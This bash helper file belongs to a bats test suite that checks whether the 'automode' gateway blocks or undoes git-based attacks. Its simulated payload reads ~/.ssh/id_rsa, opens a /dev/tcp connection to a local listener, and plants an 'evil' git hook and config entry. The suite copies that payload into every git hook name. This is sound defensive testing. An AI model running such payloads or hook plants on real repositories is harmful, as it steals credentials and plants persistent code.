# SPDX-License-Identifier: Apache-2.0
# For the bypass-*.bats: one world and one gateway for each file, a repository
# of its own for each case, and a payload that shows what it reached.
# shellcheck shell=bash
#
# The environment variable MUTANT switches one protection off (`make
# check-mutation` sets it): "bare" all of them, those below by other profiles,
# any other by a gateway that was built for it (base/mutant.h).  A case names
# in its test_tags the protections without which it has to fail.

load world

# Listens at a port and at a socket, and writes down who came.
listen() {
	python3 - "$world" 3>&- <<-'X' &
		import os, selectors, socket, sys
		world = sys.argv[1]
		t = socket.create_server(("127.0.0.1", 0))
		u = socket.socket(socket.AF_UNIX)
		u.bind(world + "/sock")
		u.listen()
		with open(world + "/port.new", "w") as f:
		    f.write(str(t.getsockname()[1]))
		os.rename(world + "/port.new", world + "/port")
		s = selectors.DefaultSelector()
		s.register(t, 1)
		s.register(u, 1)
		while True:
		    for key, _ in s.select():
		        c, _ = key.fileobj.accept()
		        c.close()
		        with open(world + "/came", "a") as f:
		            f.write("connection\n")
	X
	listener=$!
	for _ in $(seq 600); do
		[ ! -s "$world/port" ] || break
		sleep 0.05
	done
	port=$(cat "$world/port")
}

# What code would do that somebody else planted.
make_payload() {
	cat >"$world/payload" <<-X
		#!/bin/bash
		case \$0 in *.so) exit;; esac
		echo ran >>"$world/ran"
		cat "$HOME/.ssh/id_rsa" >&2
		(exec 3<>/dev/tcp/127.0.0.1/$port) && echo conn\"\"ected >&2
		d=\$(git rev-parse --git-common-dir 2>/dev/null || echo .git)
		echo '[evil]' >>"\$d/config"
		echo x >"\$d/hooks/evil"
		case " \$* " in *" --stdio "*|*" get "*) ;; *) cat - </dev/null ;; esac
		exit 0
	X
	chmod +x "$world/payload"
}

# An installation of our own, with other profiles.
install_mutant() {
	local from=${AUTOMODE_BIN%/bin/*} box
	case ${MUTANT:-} in '' | bare | vault) return ;; esac
	mkdir -p "$world/mutant/lib" "$HOME/.config/automode"
	cp -R "$from/bin" "$from/share" "$world/mutant"
	cp -a "$from/lib/automode" "$world/mutant/lib"
	export AUTOMODE_BIN=$world/mutant/bin/automode
	automode=$AUTOMODE_BIN
	cd "$world/mutant/share/automode" || return 1
	echo "$MUTANT" >mutant
	case $MUTANT in
	policy) # every effect is allowed
		sed -i -E 's/= (undoable|ask|deny)$/= allow/' default.automode
		;;
	network)
		printf '[hooks]\n\tnetwork = true\n' \
			>"$HOME/.config/automode/policy"
		;;
	files)
		for box in *.box; do
			printf '[mount]\n\twrite = %s\n\twrite = %s/.ssh\n' \
				"$world" "$HOME" >>"$box"
		done
		;;
	pins) # hooks and config of the repository
		sed -i -E '/read = .(COMMONDIR|GITDIR).(config|hooks)/d' ./*.box
		;;
	esac
}

# A folder that is not below one where everything counts as temporary.
untemporary() {
	local home
	case ${AUTOMODE_BUILD:?the build folder}/ in
	/tmp/* | /var/tmp/* | /dev/shm/*)
		home=$(getent passwd "$(id -u)" | cut -d: -f6)
		mkdir -p "$home/.cache/automode-tests"
		echo "$home/.cache/automode-tests"
		;;
	*) echo "$AUTOMODE_BUILD/tests" ;;
	esac
}

setup_file() {
	BATS_TMPDIR=$(untemporary) make_world
	mkdir "$HOME/.ssh"
	echo PRIVATE-KEY >"$HOME/.ssh/id_rsa"
	listen
	make_payload
	install_mutant
	make_repo
	cp "$world/payload" evil
	printf '*.x diff=d filter=f merge=m\n' >.gitattributes
	echo one >a.x
	/usr/bin/git add .
	/usr/bin/git commit -qm base
	/usr/bin/git push -q origin main
	# of a colleague
	/usr/bin/git -c user.name=Ben -c user.email=ben@example.com \
		commit-tree -p HEAD -m theirs "HEAD^{tree}" >"$world/theirs"
	/usr/bin/git push -q origin "$(cat "$world/theirs"):refs/heads/shared"
	/usr/bin/git fetch -q
	export world listener port plain_path
	unset MARKED
}

teardown_file() {
	kill "$listener" 2>/dev/null || true
	end_world
}

# A repository and other things older than the session, and a session.
setup() {
	repo=$HOME/r$BATS_TEST_NUMBER
	cp -a "$HOME/project" "$repo"
	rm -rf "$world/ran" "$world/came" "$world/foreign.git" "$HOME/old"
	mkdir -p "$HOME/old/store"
	echo precious >"$HOME/old/precious"
	cp -a "$HOME/project.git" "$HOME/old/origin.git"
	cp -a "$HOME/project.git" "$world/foreign.git"
	cd "$repo" || return 1
	/usr/bin/git remote set-url origin ../old/origin.git
	make_dirty
	evil=$repo/evil shims='' said=''
	[ "${MUTANT:-}" != bare ] || return 0
	as_agent
	# only what is attempted goes through the gateway
	shims=${PATH%%:*}: PATH=$plain_path
}

teardown() {
	cd / && rm -rf "$repo"
}

plant() { /usr/bin/git -C "$repo" config "$@"; }

# All hooks there are.
plant_hooks() { # DIRECTORY
	local h
	mkdir -p "$1"
	for h in pre-commit prepare-commit-msg commit-msg post-commit \
		post-checkout post-merge pre-push reference-transaction \
		post-index-change pre-rebase post-rewrite pre-auto-gc \
		pre-receive update post-receive post-update proc-receive \
		push-to-checkout applypatch-msg; do
		cp "$repo/evil" "$1/$h"
	done
}

# Runs the command with a bound on its time; remembers what it said.  ahead and
# behind: folders on PATH before and after the usual ones.
attempt() {
	before=$(sha256sum "$repo/.git/config")
	PATH=$shims${ahead:-}$PATH${behind:-} run timeout 30 "$@"
	said=$said$output
}
on_terminal() { attempt script -qec "$*" /dev/null; }

# Nothing of what the payload does has worked.
unharmed() {
	if [ -e "$world/ran" ] || [ -e "$world/came" ]; then
		echo "ran: $(cat "$world/ran" "$world/came" 2>&1)" "$said" >&2
		return 1
	fi
	case $said in *PRIVATE-KEY* | *connected*) echo "$said"; return 1 ;; esac
	[ ! -e "$repo/.git/hooks/evil" ]
	! grep -q evil\] "$repo/.git/config"
}

# The command is denied, and says this (a glob) for a reason.
refused() { # GLOB COMMAND...
	local glob=$1 state
	shift
	state=$("$manifest" "$repo")
	attempt "$@"
	echo "$output" >&2
	[ "$status" -eq 126 ]
	# shellcheck disable=SC2053
	[[ "$output" == $glob ]]
	[ "$state" = "$("$manifest" "$repo")" ]
	unharmed
}

allowed() {
	attempt "$@"
	echo "$output" >&2
	[ "$status" -eq 0 ]
}

# Whatever the command does to the repository, its remote and the files that
# were there, it is refused or undone.
reversible() { # COMMAND...
	local was is
	was=$(everything)
	attempt "$@"
	[ "${MUTANT:-}" != vault ] ||
		rm -rf "$AUTOMODE_STATE_DIR/vault" "$repo/.git/automode-vault"
	[ "$status" -eq 126 ] || "$automode" undo >/dev/null 2>&1 || true
	is=$(everything)
	if [ "$was" != "$is" ]; then
		echo "not undone: $*: $output" >&2
		diff <(echo "$was") <(echo "$is") >&2
		return 1
	fi
	unharmed
}

everything() {
	"$manifest" "$repo"
	remote_refs
	(cd "$HOME/old" && sha256sum precious && ls store)
}

remote_refs() {
	/usr/bin/git -C "$HOME/old/origin.git" for-each-ref
	/usr/bin/git -C "$world/foreign.git" for-each-ref
}

# Checks that are older than the session; each of them would stop the command.
make_checks() {
	local h
	for h in pre-commit commit-msg pre-push pre-rebase pre-merge-commit \
		applypatch-msg; do
		printf '#!/bin/sh\n# pre-commit\nexit 1\n' >".git/hooks/$h"
		chmod +x ".git/hooks/$h"
	done
	touch -d '1 hour ago' .git/hooks/*
}

allowed_or_checked() { # the hook's own refusal, not ours
	attempt "$@"
	[ "$status" -ne 126 ]
}
